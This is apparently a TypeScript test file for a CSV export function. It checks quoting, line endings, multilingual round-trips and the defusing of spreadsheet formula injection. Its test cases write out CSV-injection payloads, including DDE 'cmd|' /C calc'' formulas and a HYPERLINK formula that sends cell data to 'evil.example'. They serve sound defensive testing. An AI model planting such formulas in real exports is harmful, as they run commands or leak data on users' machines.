import * as fc from 'fast-check';
import { expect, test } from 'vitest';

import { anyCharacter } from '../../tests/any-character.ts';
import { readCsv, readWithSemicolons } from '../../tests/desk/read-csv.ts';
import { expectLinear } from '../../tests/expect-linear.ts';
import { csvHead, csvLine } from './csv.ts';

/** What a reader gets back. */
const read = (value: string | number | undefined) => readCsv(csvLine([value]))[0]?.[0];

test('every field is in quotes, lines end with CRLF, and the mark stands once', () => {
  expect(csvHead(['Number', 'E-mail'])).toBe('\uFEFF"Number","E-mail"\r\n');
  expect(csvLine([12, 'say "yes", please', undefined])).toBe('"12","say ""yes"", please",""\r\n');
});

test.each([
  ['Sahyadri Cold Chain Pvt. Ltd.'],
  ['हिन्दी में लिखा है'],
  ['आमच्या दूध संकलन केंद्रावर तापमान लॉगर आहेत'],
  ['தமிழ் எழுத்து'],
  ['👩‍👩‍👧 ₹18 lakh'],
  ['two\nlines, "quoted"; and more'],
  ['We need:\n- an audit\n- a plan\n+91 98200 12345\nRegards'],
  ['a=b, c@d.example, 5-3'],
  ['-12.5'],
  ['-3'],
  ["'already"],
  ['0'],
])('%j comes back as it is', (text) => {
  expect(read(text)).toBe(text);
});

test('a number comes back as it is, and what is none is left out', () => {
  expect([0, 12, -12.5, 1e21, Number.NaN, Infinity].map(read)).toEqual(['0', '12', '-12.5', '1e+21', '', '']);
});

test.each([
  ['=1+1'],
  ['+91 98200 12345'],
  ['+919820012345'],
  ['-1+1'],
  ['-12.5.1'],
  ['- an audit'],
  ["@SUM(1+1)*cmd|' /C calc'!A0"],
  ["=cmd|' /C calc'!A0"],
  ['=HYPERLINK("http://evil.example/?"&A1)'],
  ['"=1+1"'],
  [' =1+1'],
  ['\u00A0\u3000=1+1'],
  ['\u200B\u200D\u2060=1+1'],
  ['\uFEFF=1+1'],
  ['\u202E=1+1'],
  ['\t=1+1'],
  ['\ttab'],
  ['\nline'],
  ['＝1+1'],
  ['＋1'],
  ['－1'],
  ['＠SUM(1)'],
  ['−1+1'],
  ['﹦1'],
])('%j gets an apostrophe', (text) => {
  expect(read(text)).toBe(`'${text}`.replace("'\t=", "'\t'="));
});

test('lines end alike within a field', () => {
  expect(read('a\r\nb\rc\nd\ve\ff')).toBe('a\nb\nc\nd\ne\nf');
  expect(read('\r=1+1')).toBe("'\n'=1+1");
});

test('what no cell can hold is replaced, and hides no formula', () => {
  expect(read('a\0b\u0007c\u007Fd\u0085e\uD800')).toBe('a�b�c�d�e�');
  expect(read('\0=1+1')).toBe("'�=1+1");
});

test('a formula within a text cannot run where semicolons separate', () => {
  expect(read('hello;=1+1;x')).toBe("hello;'=1+1;x");
  expect(read('hello\n =HYPERLINK("x")')).toBe('hello\n\' =HYPERLINK("x")');
  expect(read("dear all\n-2+3+cmd|' /C calc'!A0")).toBe("dear all\n'-2+3+cmd|' /C calc'!A0");
  // Together with the next field it would.
  expect(read('hello;-1&')).toBe("hello;'-1&");
  expect(read('a\t@SUM(1)')).toBe("a\t'@SUM(1)");
});

const hostile = fc.string({
  unit: fc.oneof(
    { weight: 6, arbitrary: fc.constantFrom(...'=+-@;,"\'\t\r\n (|!1a＝－\u200B\uFEFF\0कி') },
    { weight: 1, arbitrary: anyCharacter },
  ),
  maxLength: 20,
});
const RUNS = { numRuns: 3000 };

test('whatever is written is read back, with apostrophes more at most', () => {
  fc.assert(
    fc.property(fc.array(fc.array(hostile, { minLength: 1, maxLength: 4 }), { maxLength: 4 }), (rows) => {
      const back = readCsv(rows.map(csvLine).join(''));
      const plain = (text: string) =>
        text
          .toWellFormed()
          .replaceAll(/\r\n|[\r\v\f]/g, '\n')
          .replaceAll(/(?![\t\n])\p{Cc}/gu, '�')
          .replaceAll("'", '');
      expect(back.map((row) => row.map((field) => field.replaceAll("'", '')))).toEqual(
        rows.map((row) => row.map(plain)),
      );
    }),
    RUNS,
  );
});

const FORMULA = /^[\s"\uFFFD\p{Cf}\p{Default_Ignorable_Code_Point}]*[=+\-@＝＋－＠]/u;

test('no cell begins with a formula', () => {
  fc.assert(
    fc.property(hostile, (text) => {
      const cell = read(text) ?? '';
      expect(FORMULA.test(cell) && !/^-\d+(\.\d+)?$/.test(cell)).toBe(false);
    }),
    RUNS,
  );
});

test('nor one that could do anything, where semicolons separate', () => {
  fc.assert(
    fc.property(fc.array(hostile, { minLength: 1, maxLength: 4 }), (values) => {
      for (const cell of readWithSemicolons(csvLine(['1', ...values]) + csvLine(['2', ...values]))) {
        const runs = /^[\s"\uFFFD\p{Cf}\p{Default_Ignorable_Code_Point}]*(?:[=@＝＠]|[+\-＋－].*[(|!])/u;
        expect(cell).not.toMatch(runs);
      }
    }),
    RUNS,
  );
});

test('a long text takes no long time', () => {
  for (const piece of [';=', '\n-(', '"', ' ', '\r', "'", '\u200B', '\0'])
    expectLinear(piece.repeat(50_000), (long) => csvLine([long]));
});

test('a cell holds no more than Excel takes, of which it would make rows: =1+1 would begin one', () => {
  const cut = read(`${'x'.repeat(32_767)}=1+1`) ?? '';
  expect(cut).toHaveLength(32_767);
  expect(cut.endsWith('x… (cut: the rest is in the JSON)')).toBe(true);
  expect(read('x'.repeat(32_767))).toBe('x'.repeat(32_767));
  expect(read(`${'x'.repeat(32_733)}${'🌟'.repeat(100)}`)?.isWellFormed()).toBe(true);
});
